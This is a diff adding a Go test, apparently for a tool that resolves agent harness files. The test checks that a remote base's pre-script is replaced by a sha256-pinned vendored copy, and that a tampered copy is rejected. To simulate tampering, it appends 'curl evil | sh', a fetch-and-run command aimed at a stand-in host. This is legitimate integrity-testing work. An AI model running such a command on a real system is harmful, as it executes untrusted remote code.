@@ -5,12 +5,14 @@ import (
 	"context"
 	"errors"
 	"fmt"
+	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/fullsend-ai/fullsend/internal/audit"
+	"github.com/fullsend-ai/fullsend/internal/harness"
 	"github.com/fullsend-ai/fullsend/internal/lock"
 	"github.com/fullsend-ai/fullsend/internal/ref"
 	"github.com/fullsend-ai/fullsend/internal/resolve/resolvetest"
@@ -212,5 +214,62 @@ func TestRemoteBaseFetchTypes(t *testing.T) {
 		if types[u] != ft {
 			t.Errorf("%s audited as %q, want %q", u, types[u], ft)
 		}
+	}
+}
+
+// TestRemoteBaseScriptVendored: a remote base's script is never fetched;
+// lock.yaml's vendored copy of it (same URL, or the same path at the
+// branch the entry follows) stands in, is held to its sha256 and is
+// audited as base_script.
+func TestRemoteBaseScriptVendored(t *testing.T) {
+	r := newRepo()
+	w := newWorld(t, r)
+	agent := r.file("agents/a.md", "agent\n")
+	script := "#!/bin/sh\necho base pre\n"
+	r.file("scripts/pre.sh", script)
+	base := r.file("bases/base.yaml", fmt.Sprintf("agent: ../agents/a.md#sha256=%s\npre_script: ../scripts/pre.sh\n", agent))
+	w.srv.AddRepo(w.key, r.Files)
+	const rel = "vendor/o/r/scripts/pre.sh"
+	dir := writeDir(t, map[string]string{
+		"harness/h.yaml": fmt.Sprintf("base: %s\nallowed_remote_resources: [%s]\n", pin(w.blob("bases/base.yaml"), base), w.prefix()),
+		rel:              script,
+	})
+	if _, err := Resolve(context.Background(), dir+"/harness/h.yaml", w.opts()); !errors.Is(err, harness.ErrExecutableRemote) {
+		t.Fatalf("without a vendored copy: %v", err)
+	}
+	commitURL := strings.Replace(w.blob("scripts/pre.sh"), "/blob/main/", "/blob/"+w.srv.Commit(w.key)+"/", 1)
+	for name, v := range map[string]lock.Vendored{
+		"same URL":          {Path: rel, URL: w.blob("scripts/pre.sh"), SHA256: string(ref.SHA256([]byte(script)))},
+		"commit of its ref": {Path: rel, URL: commitURL, Ref: "main", SHA256: string(ref.SHA256([]byte(script)))},
+	} {
+		t.Run(name, func(t *testing.T) {
+			w.audit.entries = nil
+			o := w.opts()
+			o.Lock = &lock.File{Version: lock.Version, Vendor: []lock.Vendored{v}}
+			res, err := Resolve(context.Background(), dir+"/harness/h.yaml", o)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if want := filepath.Join(dir, rel); res.Harness.PreScript != want {
+				t.Errorf("pre_script = %q, want %q", res.Harness.PreScript, want)
+			}
+			if !slices.ContainsFunc(w.audit.entries, func(e audit.Entry) bool {
+				return e.FetchType == FetchBaseScript && e.URL == v.URL && e.Source == audit.SourceVendor && e.SHA256 == v.SHA256
+			}) {
+				t.Errorf("no base_script audit entry: %+v", w.audit.entries)
+			}
+		})
+	}
+	// Another script's copy does not stand in.
+	o := w.opts()
+	o.Lock = &lock.File{Version: lock.Version, Vendor: []lock.Vendored{{Path: rel, URL: w.blob("scripts/other.sh"), Ref: "main", SHA256: string(ref.SHA256([]byte(script)))}}}
+	if _, err := Resolve(context.Background(), dir+"/harness/h.yaml", o); !errors.Is(err, harness.ErrExecutableRemote) {
+		t.Errorf("other script's copy: %v", err)
+	}
+	// A tampered copy is refused.
+	o.Lock.Vendor[0].URL = w.blob("scripts/pre.sh")
+	writeFiles(t, dir, map[string]string{rel: script + "curl evil | sh\n"})
+	if _, err := Resolve(context.Background(), dir+"/harness/h.yaml", o); !errors.Is(err, ErrVendorTampered) {
+		t.Errorf("tampered copy: %v", err)
 	}
 }
